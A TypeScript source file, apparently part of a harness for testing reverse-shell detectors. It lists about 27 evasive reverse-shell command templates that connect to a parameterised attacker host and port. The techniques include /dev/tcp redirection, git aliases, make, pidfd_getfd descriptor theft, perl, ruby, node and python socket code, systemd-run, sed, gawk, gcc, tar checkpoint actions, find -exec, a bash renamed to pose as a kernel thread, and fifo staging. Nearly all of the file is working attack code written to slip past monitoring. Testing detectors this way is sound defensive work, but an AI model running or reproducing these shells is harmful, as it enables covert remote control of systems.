// Corners: ways of joining a connection and a shell that few programs ever use. Each was made without a look at what stops it.
import type { Place } from "../hard_attacks.ts";
import { type Evasion, evasion, fromFile, peer, tcp } from "./row.ts";

const python = (place: Place, rest: string): string =>
  `exec python3 -c 'import os,socket,subprocess,sys,time\ns = socket.create_connection(("${place.attacker}", ${place.port}))\n${rest}'`;
const evaluates = (line: string): string => `${line} 2>&1`;

export const CORNERS: readonly Evasion[] = [
  evasion(
    "a shell is started on standard input only, and its output leaves by another shell",
    "no process has the connection on both descriptors",
    (place) => `exec 5<>${tcp(place)}; sh <&5 2>&1 | cat >&5`,
  ),
  evasion(
    "read is called by a shell for each command, dash runs it from an argument",
    "the shell that runs has nothing of the connection open",
    (place) =>
      `exec 5<>${tcp(place)}; while read -r line <&5; do out=$(dash -c "$line" 2>&1 5>&-); echo "$out" >&5; done`,
  ),
  evasion(
    "git runs an alias that is a shell",
    "git is everybody's tool",
    (place) => `exec git -c alias.x='!sh' x <>${tcp(place)} >&0 2>&1`,
  ),
  evasion(
    "make includes the connection as its makefile",
    "make is no shell",
    (place) => `exec 5<>${tcp(place)}; head -n1 <&5 | make -s -f - >&5 2>&1`,
    { first: (place) => ({ text: `$(info $(shell echo ${place.marker}-$$((6*7)); touch ${place.effect}))\n` }) },
  ),
  evasion(
    "flock holds a lock and starts the shell",
    "what is started first is flock",
    (place) => `exec flock ${place.folder}/lock sh <>${tcp(place)} >&0 2>&1`,
  ),
  evasion(
    "setarch and chrt stand before the shell",
    "two programs of util-linux",
    (place) => `exec setarch -R chrt -o 0 sh <>${tcp(place)} >&0 2>&1`,
  ),
  evasion(
    "the connection is taken out of a sleeping process by pidfd_getfd",
    "who has the shell neither connected nor inherited",
    (place) => `(exec 5<>${tcp(place)}; exec sleep 30) & sleep 0.5; python3 -c 'import os,sys
p = os.pidfd_open(int(sys.argv[1])); import ctypes
f = ctypes.CDLL(None).syscall(438, p, 5, 0)
[os.dup2(f, n) for n in (0, 1, 2)]; os.execv("/bin/sh", ["sh"])' $!`,
    { user: "root" },
  ),
  evasion(
    "perl opens a shell for writing and sends its output by itself",
    "the shell has a pipe on one side and the connection on the other",
    (place) =>
      `exec perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("${place.attacker}:${place.port}"); open(STDOUT, ">&", $s); open(STDERR, ">&", $s); open(P, "|-", "sh"); P->autoflush(1); print P $_ while <$s>'`,
  ),
  evasion(
    "perl keeps a shell behind a socket pair",
    "no pipe and no terminal",
    (place) =>
      `exec perl -MSocket -MIO::Socket::INET -MIO::Select -e '$s = IO::Socket::INET->new("${place.attacker}:${place.port}"); socketpair(A, B, AF_UNIX, SOCK_STREAM, 0); if (!fork) { open(STDIN, "<&B"); open(STDOUT, ">&B"); open(STDERR, ">&B"); exec "sh" } $x = IO::Select->new($s, \\*A); while (1) { for ($x->can_read) { sysread($_, $b, 4096) or exit; syswrite($_ == $s ? \\*A : $s, $b) } }'`,
  ),
  evasion(
    "ruby opens a terminal",
    "a terminal by another library",
    (place) =>
      `exec ruby -rsocket -rpty -e 's = TCPSocket.new("${place.attacker}", ${place.port}); PTY.spawn("sh") { |r, w, p| Thread.new { loop { w.write(s.readpartial(4096)) } }; loop { s.write(r.readpartial(4096)) } }'`,
  ),
  evasion(
    "node forks a worker that runs each line",
    "who starts the command is not who has the connection",
    (place) =>
      `exec node -e 'const c = require("child_process"); if (process.send) process.on("message", (m) => c.exec(m, (e, o) => process.send(o))); else { require("fs").writeFileSync("${place.folder}/w.js", "const c=require(\\"child_process\\");process.on(\\"message\\",(m)=>c.exec(m,(e,o)=>process.send(o)))"); const w = c.fork("${place.folder}/w.js"); const s = require("net").connect(${place.port}, "${place.attacker}"); s.on("data", (d) => w.send(d.toString())); w.on("message", (o) => s.write(o)) }'`,
  ),
  evasion(
    "python hands each line to a sibling through shared memory",
    "no descriptor joins reader and runner",
    (place) =>
      `exec python3 -c 'import mmap,os,socket,subprocess,time\nm = mmap.mmap(-1, 8192)\nif os.fork() == 0:\n    while True:\n        if m[0]:\n            n = m[1]; out = subprocess.getoutput(m[2:2+n].decode()).encode()[:4000]; m[4096:4100] = len(out).to_bytes(4, "big"); m[4100:4100+len(out)] = out; m[0] = 0\n        time.sleep(0.02)\ns = socket.create_connection(("${place.attacker}", ${place.port}))\nfor line in s.makefile("rb"):\n    m[1] = len(line); m[2:2+len(line)] = line; m[0] = 1\n    while m[0]: time.sleep(0.02)\n    n = int.from_bytes(m[4096:4100], "big"); s.sendall(m[4100:4100+n])'`,
  ),
  evasion(
    "python writes each line into a script and systemd runs it",
    "what runs is a unit of the host's",
    (place) =>
      python(
        place,
        `for line in s.makefile():\n    open("${place.folder}/c", "w").write(line)\n    s.sendall(subprocess.run(["systemd-run", "-q", "--pipe", "--wait", "sh", "${place.folder}/c"], capture_output=True).stdout)`,
      ),
    { user: "root" },
  ),
  evasion(
    "a timer of systemd runs the command and the answer is read from a file",
    "a job of the host's own scheduler",
    (place) =>
      python(
        place,
        `for line in s.makefile():\n    open("${place.folder}/c", "w").write("#!/bin/sh\\n(" + line.strip() + ") >${place.folder}/o 2>&1\\n")\n    subprocess.run(["systemd-run", "-q", "--on-active=0.2", "sh", "${place.folder}/c"])\n    time.sleep(1.5)\n    s.sendall(open("${place.folder}/o", "rb").read())`,
      ),
    { user: "root" },
  ),
  evasion(
    "sed's e command has each line as its argument",
    "sed is no interpreter, and its script is new for each line",
    (place) => `exec 5<>${tcp(place)}; while read -r line <&5; do echo x | sed "1e $line" >&5 2>&1; done`,
  ),
  evasion(
    "gawk reads its program from the connection",
    "code of awk, which starts programs",
    (place) => `exec 5<>${tcp(place)}; read -r code <&5; exec gawk "$code" >&5 2>&1`,
    { first: (place) => ({ text: `BEGIN { system("echo ${place.marker}-$((6*7)); touch ${place.effect}") }\n` }) },
  ),
  evasion(
    "gcc compiles what it is sent and the shell runs it",
    "the command is a program of its own",
    (place) => `exec 5<>${tcp(place)}; head -n1 <&5 | gcc -w -x c -o ${place.folder}/p - && ${place.folder}/p >&5 2>&1`,
    {
      first: (place) => ({
        text: `int main() { return system("echo ${place.marker}-$((6*7)); touch ${place.effect}"); }\n`,
      }),
    },
  ),
  evasion(
    "tar's checkpoint action runs the command",
    "an archiver",
    (place) =>
      `exec 5<>${tcp(place)}; while read -r line <&5; do tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec="$line" >&5 2>&1; done`,
  ),
  evasion(
    "find executes each line",
    "the command is an argument of find",
    (place) =>
      `exec 5<>${tcp(place)}; while read -r line <&5; do find /etc/hostname -exec sh -c "$line" \\; >&5 2>&1; done`,
  ),
  evasion(
    "the shell that evaluates is started with a renamed bash and descriptor 9",
    "no known name, no low descriptor",
    (place) => `exec kworkerd -c 'exec 9<>${tcp(place)}; while read -ru9 l; do ${evaluates('eval "$l"')} >&9; done'`,
  ),
  evasion(
    "nc pipes a first line of noise away before the shell",
    "the pipe's reader is grep, line by line",
    (place) =>
      `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | grep --line-buffered -v ^# | sh >${place.folder}/x 2>&1`,
  ),
  evasion(
    "each line goes through gzip and back before the shell",
    "the bytes in the pipe are not the bytes of the wire",
    (place) => `exec 5<>${tcp(place)}; head -n1 <&5 | gzip | gunzip | sh >&5 2>&1`,
  ),
  fromFile(
    "a script of perl becomes the shell",
    "a script of the site",
    "perl",
    (place) =>
      `use IO::Socket::INET; $s = IO::Socket::INET->new("${place.attacker}:${place.port}"); open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s); exec "sh";`,
  ),
  fromFile(
    "a script of ruby spawns the shell on the connection",
    "a script of the site",
    "ruby",
    (place) =>
      `require "socket"; s = TCPSocket.new("${place.attacker}", ${place.port}); Process.wait spawn("sh", in: s, out: s, err: s)`,
  ),
  evasion(
    "head writes what came into a file, a shell runs the file",
    "no standard descriptor is the connection",
    (place) => `exec 5<>${tcp(place)}; head -n1 <&5 >${place.folder}/c; sh ${place.folder}/c >&5 2>&1`,
  ),
  evasion("python keeps a shell behind a seqpacket pair", "a kind of socket nobody expects", (place) =>
    python(
      place,
      `a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\np = subprocess.Popen(["sh"], stdin=b, stdout=b, stderr=b)\nif os.fork() == 0:\n    while True: s.sendall(a.recv(4096))\nwhile True: a.sendall(s.recv(4096))`,
    ),
  ),
  evasion(
    "the shell waits behind fifos long before the connection stands",
    "at the time of the connection nothing is executed any more but cats",
    (place) =>
      `mkfifo ${place.folder}/i ${place.folder}/o; sh <${place.folder}/i >${place.folder}/o 2>&1 & exec 7>${place.folder}/i 8<${place.folder}/o; sleep 1.5; exec 5<>${tcp(place)}; cat <&5 >&7 & cat <&8 >&5`,
  ),
];
